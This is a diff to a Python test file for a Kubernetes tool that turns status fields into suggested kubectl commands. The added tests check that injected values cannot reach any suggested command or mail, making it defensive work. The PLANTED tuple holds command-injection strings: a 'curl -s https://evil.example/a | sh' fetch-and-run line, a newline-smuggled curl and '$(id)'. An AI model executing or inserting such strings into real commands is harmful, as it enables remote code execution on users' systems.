@@ -3,6 +3,7 @@
 import json
 import re
 import shlex
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -171,11 +172,66 @@ def test_a_lost_sealing_key_names_the_way_to_the_consent_of_each_sender(count: i
     ]
 
 
+# -- Texts of a status ---------------------------------------------------------------------------------------
+
+PLANTED = (
+    "x; curl -s https://evil.example/a | sh #",
+    "x -n unit-b",
+    "--all",
+    "$(id)",
+    "X\ncurl https://evil.example",
+)
+"""Texts that who may write a status could put there, with which a command would be another one."""
+
+
+def planted_everywhere(kind: AttentionKind, text: str) -> AttentionItem:
+    return AttentionItem(
+        kind=kind,
+        name=text,
+        organization=text,
+        reason=text,
+        message=f"Type `kubectl label secret {text} counterfoil.dev/use=token`.",
+        examples=(text,),
+        senders=(text,),
+        release=text,
+    )
+
+
+@pytest.mark.parametrize("text", PLANTED)
+@pytest.mark.parametrize("kind", AttentionKind)
+def test_what_is_neither_a_name_nor_a_reason_is_in_no_command(kind: AttentionKind, text: str) -> None:
+    for reason in (text, "ArchiveMissing", "ArchiveSuspended", "ArchiveProbeOverdue", "SealKeyUnknown"):
+        about = replace(planted_everywhere(kind, text), reason=reason)
+        assert [each.line for each in commands_about(about, "unit-a") if text in each.line] == []
+
+
+@pytest.mark.parametrize("text", PLANTED)
+def test_the_reason_of_a_failed_event_chooses_no_command(text: str) -> None:
+    event = EventBuilder().named("event-1").in_phase(Phase.FAILED, text).build()
+    snapshot = ClusterSnapshot(organizations=(an_organization(),), failed=(event,))
+    (waiting,) = overview(Reading(snapshot, (), (), is_refused=False), "tests", NOON).waiting
+    assert waiting.commands == ("kubectl counterfoil -n tests why event-1",)
+
+
+@pytest.mark.parametrize("cause", ["failed/{}", "archive/{}", "copy/{}", "import/{}", "webhook/{}", "key/{}"])
+@pytest.mark.parametrize("text", PLANTED)
+def test_a_problem_of_a_status_chooses_no_command_of_a_mail(cause: str, text: str) -> None:
+    problem = a_problem(cause.format(text), reason=text, examples=(text,))
+    renderer = MailRenderer(an_organization(notifications=MAILS), "tests")
+    kind = MailKind(cause.partition("/")[0])
+    content = renderer.content(Notification(kind, NOON, problem))
+    assert [each for each in content.commands if text in each] == []
+
+
+def test_a_problem_without_a_known_reason_selects_no_events() -> None:
+    lines = [each.line for each in commands_about(item("failed", "Unknown", ""), "tests")]
+    assert lines == ["kubectl counterfoil -n tests why event-1"]
+
+
 def test_the_namespace_of_a_release_ends_no_command() -> None:
     planted = "x; curl -s https://evil.example/a | sh #"
     snapshot = ClusterSnapshot(unheld_shards=(UnheldShard(release=planted),))
-    ((command,),) = (commands_about(each, "unit-a") for each in attention_items(snapshot))
-    assert shlex.split(command.line)[:3] == ["kubectl", "-n", planted]
+    assert [commands_about(each, "unit-a") for each in attention_items(snapshot)] == [()]
 
 
 SKIPS = {"en": "skip the event", "de": "überspringen", "it": "saltare"}
